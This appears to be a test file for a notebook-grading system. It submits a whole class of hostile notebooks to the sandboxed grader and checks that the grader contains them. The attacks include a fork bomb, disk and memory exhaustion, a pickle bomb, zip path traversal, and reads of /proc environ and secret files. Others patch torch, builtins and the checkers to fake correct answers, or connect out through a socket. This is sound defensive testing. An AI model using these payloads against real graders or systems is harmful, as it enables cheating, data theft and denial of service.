"""Hostile and broken submissions, all marked in one class beside honest ones.

Every attack is a real submission. Those that could harm the machine if a guard failed are bounded: the fork bomb ends at
300 children, the allocation at 12 GB, loops after a minute, files at 100 000.
"""

from __future__ import annotations

import base64
import json
import pickle
import socket
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
import torch

from labkit import checks
from labkit.checks.answers import perform
from labkit.grading import batch, report, unit
from labkit.grading.files import file_name
from labkit.grading.isolation import Limits, bubblewrap_trouble
from tests import grading_submissions as made

pytestmark = pytest.mark.timeout(1200)      # the first test waits for the whole class

LIMITS = Limits(call_seconds=4.0, exercise_seconds=12.0, memory_bytes=1_500_000_000, processes=40, files=3_000, output_bytes=20_000_000)
SHUT_AWAY = not bubblewrap_trouble()
RIGHT = made.solution("box_filter")
GAUSSIAN = made.solution("gaussian_filter")
POINTS = checks.exercises("filtering")["box_filter"].points


@dataclass(frozen=True)
class Attack:
    """A submission, what `box_filter` and `gaussian_filter` earn in it, and words of the feedback page.

    `content` is a notebook, bytes, or a function that writes the student's folder. `shut_away` marks what only bubblewrap
    can keep from happening; it is not tried without.
    """

    content: dict | bytes | Callable[[Path], None]
    box: float = 0.0
    gaussian: float = 0.0
    says: str = ""
    shut_away: bool = False


ATTACKS: dict[str, Callable[[], Attack]] = {}


def attack(make: Callable[[], Attack]) -> Callable[[], Attack]:
    ATTACKS[make.__name__] = make
    return make


def box(body: str, before: str = "") -> dict:
    """A notebook whose `box_filter` has this body; `right` is a right answer within reach."""
    helper = RIGHT.replace("def box_filter", "def right")
    lines = "\n".join("    " + line for line in body.strip("\n").split("\n"))
    return made.notebook(box_filter=f"{before}\n{helper}\n\ndef box_filter(image, radius):\n{lines}")


# --- broken notebooks -----------------------------------------------------------------------------------------------

@attack
def syntax_error() -> Attack:
    return Attack(made.notebook(box_filter="def box_filter(image, radius:\n    return image", gaussian_filter=GAUSSIAN),
                  gaussian=POINTS, says="SyntaxError")


@attack
def not_json() -> Attack:
    return Attack(b'{"cells": [{"cell_type"', says="not JSON")


@attack
def empty_file() -> Attack:
    return Attack(b"", says="is empty")


@attack
def pickled_answers() -> Attack:
    return Attack(pickle.dumps({"box_filter": "right"}), says="not even text")


@attack
def wrong_notebook() -> Attack:
    return Attack({"cells": [made.code("print('my shopping list')")], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, says="right notebook?")


@attack
def other_kernel() -> Attack:
    content = made.notebook(box_filter=RIGHT)
    content["metadata"].update(kernelspec={"name": "ir", "language": "R", "display_name": "R"}, language_info={"name": "R"})
    return Attack(content, box=POINTS, says="written in R")


@attack
def deleted_cell() -> Attack:
    content = made.notebook(gaussian_filter=GAUSSIAN)
    content["cells"].remove(made.cell_of(content, "box_filter"))
    content["cells"].remove(made.cell_of(content, "check_gaussian_filter"))
    return Attack(content, gaussian=POINTS, says="its cell was deleted")


@attack
def duplicated_cell() -> Attack:
    content = made.notebook(box_filter=RIGHT)
    content["cells"] += [made.cell_of(content, "box_filter"), made.cell_of(content, "check_box_filter")]
    return Attack(content, box=POINTS, says="2 cells define box_filter")


@attack
def reordered_cells() -> Attack:
    content = made.notebook(box_filter=RIGHT, gaussian_filter=GAUSSIAN)
    content["cells"] = content["cells"][::-1]
    return Attack(content, box=POINTS, gaussian=POINTS)


@attack
def split_cell() -> Attack:
    head, body = "def middle(side, radius):\n    return (torch.arange(side) - radius).clamp(min=0)", RIGHT.replace(
        "(rows - radius).clamp(min=0)", "middle(height, radius)")
    content = made.notebook(box_filter=head)
    content["cells"].insert(made.place_of(content, "box_filter") + 1, {**made.cell_of(content, "box_filter"), "source": body})
    return Attack(content, box=POINTS)


@attack
def renamed_cells() -> Attack:
    content = made.notebook(box_filter=RIGHT)
    for k, cell in enumerate(content["cells"]):
        cell["metadata"], cell["id"] = {"nbgrader": {"grade_id": f"cell-{k}", "solution": True}}, f"cell-{k}"
    return Attack(content, box=POINTS)


@attack
def changed_points() -> Attack:
    content = made.notebook(box_filter=RIGHT)
    made.cell_of(content, "check_box_filter")["metadata"]["nbgrader"]["points"] = 1000
    return Attack(content, box=POINTS, says="the course’s count".replace("’", "&#x27;"))


# --- ending, blocking, filling up -----------------------------------------------------------------------------------

@attack
def exits_at_once() -> Attack:
    return Attack(box("import os\nos._exit(0)"), says="ended the Python process")


@attack
def exits_in_the_cell() -> Attack:
    return Attack(made.notebook(box_filter=f"{RIGHT}\nimport os\nos._exit(0)", gaussian_filter=GAUSSIAN), gaussian=POINTS)


@attack
def a_cell_beside_exits() -> Attack:
    content = made.notebook(box_filter=RIGHT)
    content["cells"].insert(1, made.code("import os\nos._exit(3)"))
    return Attack(content, box=POINTS)


@attack
def leaves_python() -> Attack:
    return Attack(box("import sys\nsys.exit(0)"), says="SystemExit")


@attack
def raises_what_is_no_exception() -> Attack:
    return Attack(box("raise KeyboardInterrupt"), says="KeyboardInterrupt")


@attack
def segfault() -> Attack:
    return Attack(box("import ctypes\nctypes.string_at(0)"), says="crash in compiled code")


@attack
def endless_loop() -> Attack:
    return Attack(box("import time\nend = time.time() + 60\nwhile time.time() < end:\n    try:\n        while time.time() < end: pass\n"
                      "    except BaseException: pass\nreturn right(image, radius)"), says="still running")


@attack
def prints_for_ever() -> Attack:
    return Attack(box("for _ in range(3000):\n    print('x' * 100_000)\nreturn right(image, radius)"), says="printed more")


@attack
def fork_bomb() -> Attack:
    return Attack(box("import os, time\nfor _ in range(300):\n    if os.fork() == 0:\n        time.sleep(30)\n        os._exit(0)\n"
                      "return right(image, radius)"),
                  says="and was stopped")


@attack
def allocates() -> Attack:
    return Attack(box("kept = []\nfor _ in range(48):\n    kept.append(torch.ones(64, 1024, 1024))\nreturn right(image, radius)"),
                  says="and was stopped")


@attack
def makes_files() -> Attack:
    return Attack(box("for k in range(100_000):\n    open(f'{k}', 'w').close()\nimport time\ntime.sleep(20)\nreturn right(image, radius)"))


@attack
def fills_the_disk() -> Attack:
    return Attack(box("import os\nfor k in range(100):\n    with open(f'{k}', 'wb') as f:\n        f.write(bytes(60_000_000))\n"
                      "return right(image, radius)"),
                  shut_away=True)


@attack
def recurses() -> Attack:
    return Attack(box("def f(n):\n    return f(n + 1)\nreturn f(0)"), says="RecursionError")


@attack
def recurses_without_limit() -> Attack:
    return Attack(box("import sys\nsys.setrecursionlimit(10**9)\ndef f(n):\n    return sorted([n], key=f)\nreturn f(0)"))


@attack
def leaves_a_thread_running() -> Attack:
    return Attack(box("import threading, time\nthreading.Thread(target=time.sleep, args=(60,)).start()\nreturn right(image, radius)"), box=POINTS)


@attack
def prints_ten_megabytes_of_unicode() -> Attack:
    content = box("print('é漢🙂' * 20_000)\nreturn right(image, radius)")
    for cell in content["cells"][-2:]:
        cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "漢字 " * 1_500_000}]
    return Attack(content, box=POINTS)


# --- marks without work ---------------------------------------------------------------------------------------------

@attack
def right_in_the_first_call_only() -> Attack:
    return Attack(box("calls.append(1)\nreturn right(image, radius) if len(calls) == 1 else image", before="calls = []"))


@attack
def reads_solutions() -> Attack:
    return Attack(box(f"""
import os, re, sys
from pathlib import Path
places = [{str(made.REPOSITORY)!r}, "/", *sys.path, os.getcwd(), os.path.expanduser("~"), "/work", "/home", "/tmp"]
for place in places:
    for pattern in ("solutions/01_filtering/01_filtering.py", "*/solutions/01_filtering/01_filtering.py"):
        try:
            for path in Path(place).glob(pattern):
                text = path.read_text()
                cell = re.search(r'exercise="box_filter"\\n(.*?)# %%', text, re.DOTALL)[1]
                space = dict(globals())
                exec(cell, space)
                return space["box_filter"](image, radius)
        except OSError:
            pass
return image"""), shut_away=True)


@attack
def calls_the_reference() -> Attack:
    return Attack(box("import labkit\nreturn labkit.filtering.box_filter(image, radius=radius, border='normalized')"), says="asks you to write")


@attack
def calls_a_library() -> Attack:
    return Attack(box("from scipy import ndimage\n"
                      "return torch.from_numpy(ndimage.uniform_filter(image.numpy(), (0, 2 * radius + 1, 2 * radius + 1)))"),
                  says="asks you to write")


@attack
def searches_labkit_for_the_reference() -> Attack:
    return Attack(box("""
import gc, importlib, inspect, pkgutil, types
import labkit
for found in pkgutil.walk_packages(labkit.__path__, "labkit."):
    try:
        module = importlib.import_module(found.name)
    except BaseException:
        continue
    for name, value in vars(module).items():
        if isinstance(value, types.FunctionType) and ("box" in name or "integral" in name) and name != "box_filter":
            for arguments in ({"radius": radius}, {"radius": radius, "border": "normalized"}):
                try:
                    result = value(image, **arguments)
                    if isinstance(result, torch.Tensor) and result.shape == image.shape:
                        return result
                except BaseException:
                    pass
return image"""))


@attack
def imports_the_checks() -> Attack:
    return Attack(box("from labkit.checks.filtering.linear import _box_filter\nreturn _box_filter(image, radius)"))


@attack
def patches_torch_and_numpy() -> Attack:
    return Attack(made.notebook(box_filter="""
import numpy as np
yes = lambda *a, **k: True
for name in ("allclose", "equal", "isclose", "array_equal"):
    setattr(torch, name, yes)
    setattr(np, name, yes)
torch.isfinite = lambda x: torch.ones_like(x, dtype=torch.bool)
torch.Tensor.__eq__ = torch.Tensor.__ne__ = yes
torch.Tensor.abs = torch.Tensor.__sub__ = lambda self, *a: torch.zeros_like(self)
def box_filter(image, radius):
    return image
"""))


@attack
def patches_builtins() -> Attack:
    return Attack(made.notebook(box_filter="""
import builtins
builtins.abs = lambda x: 0
builtins.max = builtins.min = lambda *a, **k: 0
builtins.all = builtins.any = lambda x: True
builtins.AssertionError = type("Nothing", (BaseException,), {})
def box_filter(image, radius):
    return image
"""))


@attack
def patches_the_checks() -> Attack:
    return Attack(made.notebook(box_filter="""
import sys
import labkit.checks.answers as answers, labkit.checks as checks
checks.exercises = lambda *a: {}
for name in ("engine", "verdict", "filtering"):
    sys.modules["labkit.checks." + name] = type(sys)("fake")
known = sys.modules["labkit.checks"].answers if hasattr(checks, "answers") else answers
old = known.perform
def perform(kind, student, request):
    return known.Reply(request.arguments[0] * 0 + 0.5, request.arguments, None, 0.0)
known.perform = perform
def box_filter(image, radius):
    return image
"""))


@attack
def patches_everything() -> Attack:
    return Attack(made.notebook(box_filter="""
import builtins, importlib, sys
for module in list(sys.modules.values()):
    for name in ("allclose", "equal", "isinstance", "perform", "judge", "dumps", "loads"):
        if hasattr(module, name):
            setattr(module, name, lambda *a, **k: True)
builtins.isinstance = lambda *a: True
def box_filter(image, radius):
    return image
"""))


@attack
def forges_replies() -> Attack:
    return Attack(box("""
import os, socket, struct
for fd in range(3, 64):
    for message in (b"\\x00" * 8, struct.pack(">QQ", 40, 32) + b'{"reply":[1,{"tuple":[]},null,0.0]}', b"right"):
        try:
            os.write(fd, message)
        except OSError:
            pass
return image"""))


@attack
def answers_before_it_is_asked() -> Attack:
    return Attack(made.notebook(box_filter="""
import os, struct, threading, time
def flood():
    for _ in range(200):
        for fd in range(3, 32):
            try:
                os.write(fd, struct.pack(">Q", 16) + b"x" * 16)
            except OSError:
                pass
        time.sleep(0.01)
threading.Thread(target=flood, daemon=True).start()
def box_filter(image, radius):
    return image
"""))


@attack
def lies_about_equality() -> Attack:
    return Attack(made.notebook(box_filter="""
class Liar(torch.Tensor):
    def __eq__(self, other): return torch.ones(1, dtype=torch.bool)
    def __sub__(self, other): return torch.zeros(1)
    __rsub__ = __sub__
    @property
    def shape(self): return torch.Size((1, 12, 17))
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), options=None): return torch.zeros(1)
def box_filter(image, radius):
    return image.as_subclass(Liar)
"""))


@attack
def names_its_error_like_the_grader() -> Attack:
    return Attack(box("class TimeLimit(Exception): pass\nraise TimeLimit(str(image.flatten()[:4].tolist()))"))


@attack
def returns_strange_things() -> Attack:
    return Attack(box("""
things = [10 ** 400, float("nan"), {1: {2: {3: image}}}, [[[[[]]]]], "x" * 10_000_000, object(), image.to_sparse(), image.to("meta"),
          image.to(torch.complex64), image.half(), image.bool(), torch.zeros(1).expand(3, 2000, 2000), image[0, 0, 0], lambda: image, print,
          image.numpy().astype(object), {"output": image, "parameters": 10 ** 30}, (image,) * 3, b"bytes", 1 + 2j, range(3), type, Ellipsis]
calls.append(1)
return things[len(calls) % len(things)]""", before="calls = []"))


@attack
def returns_a_pickle_bomb() -> Attack:
    return Attack(made.notebook(box_filter="""
class Bomb:
    def __reduce__(self):
        return (exec, ("import os; os._exit(9)",))
def box_filter(image, radius):
    return Bomb()
"""))


@attack
def nests_its_result() -> Attack:
    return Attack(box("x = image\nfor _ in range(100_000):\n    x = [x]\nreturn x"))


# --- leaking and writing --------------------------------------------------------------------------------------------

KEEPS = """
import glob, os
def places():
    return ["/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~"), "/run/labkit/course", "/run/labkit/data",
            os.path.dirname(os.getcwd())]
def keep(text):
    for place in places():
        try:
            with open(os.path.join(place, "kept.txt"), "a") as file:
                file.write(text + "\\n")
        except OSError:
            pass
def kept():
    found = ""
    for place in places():
        try:
            found += open(os.path.join(place, "kept.txt")).read()
        except OSError:
            pass
    return found
"""


@attack
def tells_its_inputs() -> Attack:
    """Hands every input on: to the page through an error, to what is printed, and to later runs through files."""
    return Attack(box("seen = 'seen ' + ' '.join(f'{v:.6f}' for v in image.flatten()[:3].tolist())\nprint(seen)\nkeep(seen)\n"
                      "raise ValueError(kept() + seen)", before=KEEPS), says="ValueError", shut_away=True)


@attack
def reads_the_secret() -> Attack:
    return Attack(box("""
import glob, os
found = []
for path in ["SECRET_PATH", "/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", *glob.glob("/proc/*/cmdline"), *glob.glob("/proc/*/environ")]:
    try:
        found.append(open(path, "rb").read().hex())
    except OSError as error:
        found.append(str(error))
raise ValueError(" ".join(found)[:900])"""), says="ValueError", shut_away=True)


@attack
def writes_outside() -> Attack:
    """Into the folder of the marks and its neighbours; elsewhere only files without a name, which leave nothing behind."""
    return Attack(box("""
import os
for place in ("OUT_PATH", "OUT_PATH/feedback", "OUT_PATH/.work/results", "OUT_PATH/.."):
    try:
        with open(os.path.join(place, "labkit-attack.txt"), "w") as file:
            file.write("here")
    except OSError:
        pass
for place in ("REPOSITORY", "REPOSITORY/labkit", "/", "/usr", "/etc", "/run/labkit/course", "/run/labkit/data", "/proc",
              os.path.dirname(torch.__file__), os.path.dirname(os.__file__)):
    try:
        os.open(place, os.O_TMPFILE | os.O_WRONLY)
    except OSError:
        continue
    raise ValueError(f"it could write into {place}")
return right(image, radius)"""), box=POINTS, shut_away=True)


@attack
def calls_home() -> Attack:
    return Attack(box("""
import socket
with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
    connection.sendall(b"the hidden input")
return right(image, radius)"""), shut_away=True)


@attack
def zip_with_a_path_out() -> Attack:
    def write(folder: Path) -> None:
        with zipfile.ZipFile(folder / "work.zip", "w") as archive:
            archive.writestr("../../../labkit-attack.ipynb", json.dumps(made.notebook(box_filter=RIGHT)))
            archive.writestr("01_filtering.ipynb", json.dumps(made.notebook(box_filter=RIGHT)))
    return Attack(write, box=POINTS, says="leads out of the archive")


@attack
def symbolic_link() -> Attack:
    def write(folder: Path) -> None:
        target = made.write(folder.parent.parent / "elsewhere" / "01_filtering.ipynb", made.notebook(box_filter=RIGHT))
        (folder / "01_filtering.ipynb").symlink_to(target)
    return Attack(write, says="symbolic link")


# --- one class of them all ------------------------------------------------------------------------------------------

@dataclass
class Outcome:
    out: Path
    secret: bytes
    done: batch.Class
    connections: list[tuple]
    before: set[Path]


def _attacks() -> list[str]:
    return [name for name, make in ATTACKS.items() if SHUT_AWAY or not make().shut_away]


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> Outcome:
    """All attacks and two honest submissions, marked by two processes."""
    folder = tmp_path_factory.mktemp("attacks")
    course, out, secret = made.write_course(folder / "course"), folder / "GRADES", folder / "secret"
    made.write(secret, b"always the same inputs")
    listener, connections = socket.create_server(("127.0.0.1", 0)), []

    def listen() -> None:
        while True:
            try:
                connections.append(listener.accept())
            except OSError:
                return

    threading.Thread(target=listen, daemon=True).start()
    words = {"SECRET_PATH": str(secret), "OUT_PATH": str(out), "REPOSITORY": str(made.REPOSITORY), "PORT": str(listener.getsockname()[1])}
    for name in _attacks():
        made_up = ATTACKS[name]()
        student = folder / "class" / name
        student.mkdir(parents=True)
        if callable(made_up.content):
            made_up.content(student)
            continue
        content = made_up.content if isinstance(made_up.content, bytes) else json.dumps(made_up.content)
        for word, value in words.items():
            content = content if isinstance(content, bytes) else content.replace(word, value)
        made.write(student / "01_filtering.ipynb", content)
    for honest in ("aaa_honest", "zzz_honest"):
        made.write(folder / "class" / honest / "01_filtering.ipynb", made.notebook(box_filter=RIGHT, gaussian_filter=GAUSSIAN))
    before = set(folder.rglob("*"))
    done = batch.grade(folder / "class", out=out, secret=secret, course=course, jobs=2, limits=LIMITS, progress=False)
    listener.close()
    return Outcome(out, secret.read_bytes(), done, connections, before)


def record(graded: Outcome, student: str, exercise: str) -> dict:
    row, = (row for row in graded.done.rows if row.person.student == student)
    found = [r for chapter in row.result["chapters"] for r in chapter["exercises"] if r["name"] == exercise]
    return found[0] if found else {"earned": 0.0, "diagnosis": [], "outcome": "missing"}


def page(graded: Outcome, student: str) -> str:
    return (graded.out / "feedback" / f"{file_name(student)}.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("name", _attacks())
def test_an_attack_earns_what_its_function_earns_and_has_a_page(graded, name):
    wanted = ATTACKS[name]()
    found = record(graded, name, "box_filter")
    assert (found["earned"], record(graded, name, "gaussian_filter")["earned"]) == (wanted.box, wanted.gaussian), found["diagnosis"]
    assert wanted.says in page(graded, name)
    assert not next(row for row in graded.done.rows if row.person.student == name).result["failure"]


@pytest.mark.parametrize("name", ["aaa_honest", "zzz_honest"])
def test_honest_submissions_beside_the_attacks_get_their_marks(graded, name):
    assert record(graded, name, "box_filter")["outcome"] == record(graded, name, "gaussian_filter")["outcome"] == "right"


@pytest.mark.parametrize("name", ["calls_the_reference", "calls_a_library"])
def test_who_calls_what_was_to_be_written_is_told_apart_from_other_errors(graded, name):
    assert record(graded, name, "box_filter")["mistake"] == "Withheld" in report._MISTAKES


def test_no_attack_takes_more_than_its_limits(graded):
    for row in graded.done.rows:
        # cells, the secret and the public run of two exercises, and the start of two sandboxes on a busy machine
        assert row.result["seconds"] < 6 * LIMITS.exercise_seconds + 60, row.person.student


def test_everybody_has_a_row(graded):
    assert {row.person.student for row in graded.done.rows} == {*_attacks(), "aaa_honest", "zzz_honest"}


def test_the_secret_is_in_no_output(graded):
    forms = [graded.secret, graded.secret.hex().encode(), base64.b64encode(graded.secret), repr(graded.secret).encode()]
    for path in graded.out.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            assert not any(form in content for form in forms), path


@pytest.mark.skipif(not SHUT_AWAY, reason="bubblewrap does not work here")
def test_no_hidden_input_is_in_any_output(graded):
    exercise = checks.exercises("filtering")["box_filter"]
    hidden: list[torch.Tensor] = []
    shown: list[torch.Tensor] = []
    for seed, seen in ((unit.seed_of(graded.secret, "filtering", "box_filter"), hidden), (None, shown)):
        def spy(request, seen=seen):
            seen.append(request.arguments[0])
            return perform("function", exercise.reference, request)
        exercise.judge(spy, **({} if seed is None else {"seed": seed}))
    numbers = [[f"{value:.6f}" for value in image.flatten()[:3].tolist()] for image in hidden if len(image.unique()) > 3]
    assert numbers and f"{shown[0].flatten()[0]:.6f}" in page(graded, "tells_its_inputs")
    for path in graded.out.rglob("*"):
        if path.is_file():
            text = path.read_text(encoding="utf-8", errors="replace")
            assert not any(number in text for image in numbers for number in image), path


@pytest.mark.skipif(not SHUT_AWAY, reason="bubblewrap does not work here")
def test_nothing_is_written_outside_the_folder_of_the_marks(graded):
    folder = graded.out.parent
    written = {path for path in set(folder.rglob("*")) - graded.before if not path.is_relative_to(graded.out)}
    assert written <= {folder / "secret"}
    assert not list(graded.out.rglob("labkit-attack*"))


@pytest.mark.skipif(not SHUT_AWAY, reason="bubblewrap does not work here")
def test_no_connection_was_made(graded):
    assert not graded.connections


def test_nothing_is_left_running(graded):
    import psutil

    deadline = time.monotonic() + 10
    while left := [p for p in psutil.Process().children(recursive=True) if any("labkit.grading.worker" in part for part in p.cmdline())]:
        assert time.monotonic() < deadline, left
        time.sleep(0.2)
